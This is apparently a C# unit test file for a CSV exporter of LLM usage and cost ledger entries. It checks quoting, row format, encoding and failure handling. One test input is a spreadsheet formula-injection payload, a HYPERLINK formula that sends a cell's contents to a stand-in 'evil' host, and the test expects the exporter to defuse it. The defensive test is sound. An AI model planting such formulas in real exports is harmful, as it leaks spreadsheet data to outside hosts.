using System.Text;
using Switchboard.Abstractions.Governance;
using Switchboard.Gateway.Governance;

namespace Switchboard.Gateway.Tests.Governance;

public sealed class CsvExportTests
{
    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("line\nbreak", "\"line\nbreak\"")]
    [InlineData("carriage\rreturn", "\"carriage\rreturn\"")]
    [InlineData("", "")]
    [InlineData(null, "")]
    [InlineData("=HYPERLINK(\"https://evil/?\"&A2,\"x\")", "\"'=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"x\"\")\"")]
    [InlineData("+1+2", "'+1+2")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("a=b", "a=b")]
    public void Escape_QuotesWhatRfc4180RequiresAndDefusesFormulas(string? value, string expected)
    {
        Assert.Equal(expected, CsvExport.Escape(value));
    }

    [Fact]
    public async Task Write_WritesHeaderAndOneCrlfRowPerEntry()
    {
        var entries = new[]
        {
            new LedgerEntry
            {
                Id = "led_1",
                Timestamp = new DateTimeOffset(2026, 3, 14, 10, 30, 0, 123, TimeSpan.FromHours(1)),
                TenantId = "acme",
                KeyId = "key,1",
                Agent = "the \"refunds\" agent",
                Model = "openai:gpt-4o",
                Streaming = true,
                PromptTokens = 1234,
                CompletionTokens = 567,
                InputPricePerMillion = 2.5m,
                OutputPricePerMillion = 10m,
                PriceVersion = "0123456789ab",
                CostUsd = 0.0000001m,
                LatencyMs = 812.25,
                TimeToFirstTokenMs = 95.5,
            },
            new LedgerEntry
            {
                Id = "led_2",
                Timestamp = new DateTimeOffset(2026, 3, 14, 11, 0, 0, TimeSpan.Zero),
                Model = "local:llama",
                Unpriced = true,
                LatencyMs = 3,
                Status = "rate_limited",
                ErrorClass = "RateLimited",
            },
        };
        using var writer = new StringWriter();

        await CsvExport.WriteAsync(ToAsync(entries), writer);

        var lines = writer.ToString().Split("\r\n");
        Assert.Equal(4, lines.Length);
        Assert.Equal(string.Join(',', CsvExport.Columns), lines[0]);
        Assert.Equal(
            "led_1,2026-03-14T09:30:00.123Z,acme,\"key,1\",,,,\"the \"\"refunds\"\" agent\",,,,openai:gpt-4o,true,1234,567,0,0,2.5,10,0123456789ab,0.0000001,false,false,0,812.25,95.5,ok,",
            lines[1]);
        Assert.Equal("led_2,2026-03-14T11:00:00.000Z,default,,,,,,,,,local:llama,false,0,0,0,0,,,,,true,false,0,3,,rate_limited,RateLimited", lines[2]);
        Assert.Equal(string.Empty, lines[3]);
        Assert.All(lines[1..3], line => Assert.Equal(CsvExport.Columns.Count, CountFields(line)));
    }

    [Fact]
    public async Task Write_ToStream_IsUtf8WithoutByteOrderMarkAndLeavesTheStreamOpen()
    {
        using var stream = new MemoryStream();

        await CsvExport.WriteAsync(ToAsync([new LedgerEntry { Id = "led_é", Timestamp = DateTimeOffset.UnixEpoch }]), stream);

        Assert.True(stream.CanWrite);
        var bytes = stream.ToArray();
        Assert.NotEqual(0xEF, bytes[0]);
        Assert.Contains("led_é,1970-01-01T00:00:00.000Z", Encoding.UTF8.GetString(bytes));
    }

    [Theory]
    [InlineData(0)]
    [InlineData(3)]
    public async Task Write_ToStream_StoreFailsEarly_SendsNothingSoTheCallerCanAnswerAnError(int rowsBefore)
    {
        using var stream = new MemoryStream();

        await Assert.ThrowsAsync<IOException>(() => CsvExport.WriteAsync(Failing(rowsBefore), stream));

        Assert.Equal(0, stream.Length);
    }

    /// <summary>Counts fields the way a CSV reader does: commas outside quotes.</summary>
    private static int CountFields(string line)
    {
        var fields = 1;
        var quoted = false;
        foreach (var c in line)
        {
            if (c == '"')
            {
                quoted = !quoted;
            }
            else if (c == ',' && !quoted)
            {
                fields++;
            }
        }

        return fields;
    }

    private static async IAsyncEnumerable<LedgerEntry> Failing(int rowsBefore)
    {
        for (var i = 0; i < rowsBefore; i++)
        {
            await Task.Yield();
            yield return new LedgerEntry { Id = $"led_{i}", Timestamp = DateTimeOffset.UnixEpoch };
        }

        throw new IOException("disk I/O error");
    }

    private static async IAsyncEnumerable<LedgerEntry> ToAsync(IEnumerable<LedgerEntry> entries)
    {
        foreach (var entry in entries)
        {
            await Task.Yield();
            yield return entry;
        }
    }
}
